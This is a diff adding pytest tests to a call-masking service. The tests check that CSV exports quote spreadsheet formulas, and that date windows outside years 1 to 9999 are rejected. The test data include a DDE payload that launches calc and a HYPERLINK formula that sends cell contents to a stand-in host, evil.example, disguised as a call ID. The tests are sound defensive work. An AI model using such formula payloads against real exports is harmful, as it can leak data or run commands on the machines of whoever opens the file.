@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
+
 from callmask.domain.calls import CallEvent
 from callmask.domain.errors import Code
 from callmask.domain.numbers import E164
@@ -152,6 +154,34 @@ def test_csv_export_has_a_header_and_every_matching_call(live: Live, analyst: st
     assert [row[0] for row in rows[1:]] == [f"call-{n}" for n in range(5)]
     assert rows[1][2] == "'=cmd|' /C calc'!A0"  # not a formula in a spreadsheet
     assert rows[3][4:6] == [A, B] and rows[3][9] == "2"
+
+
+def test_csv_export_quotes_a_call_id_a_spreadsheet_would_run(live: Live, analyst: str) -> None:
+    masking = live.set(m1=A, m2=B)
+    # A valid SIP Call-ID, chosen by whoever places the call.
+    _call(live, '+HYPERLINK("http://evil.example/?"&A1)@x', masking, NOW_MS - 100_000)
+    response = live.post(MASKLIST, json={"userId": "acme-ops", "token": analyst, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert rows[1][0] == '\'+HYPERLINK("http://evil.example/?"&A1)@x'
+    assert rows[1][3:6] == [masking["mask"], A, B]  # numbers as they are
+
+
+@pytest.mark.parametrize("form", ["json", "csv"])
+@pytest.mark.parametrize(
+    "window",
+    [
+        {"endTime": 253_402_300_800},  # 10000-01-01T00:00:00Z
+        {"startTime": "0001-01-01T00:00:00+01:00", "endTime": "0001-01-01T12:00:00Z"},
+    ],
+)
+def test_a_window_outside_years_1_to_9999_answers_1000(
+    live: Live, analyst: str, form: str, window: dict[str, object]
+) -> None:
+    answer = live.post(
+        MASKLIST, json={"userId": "acme-ops", "token": analyst, "format": form, **window}
+    )
+    assert answer.status_code == 200 and is_json_answer(answer)
+    assert_error(answer.json(), Code.INVALID_PARAMETERS, "years 1 to 9999")
 
 
 def test_errors_answer_the_envelope_even_when_csv_was_asked(live: Live, analyst: str) -> None:
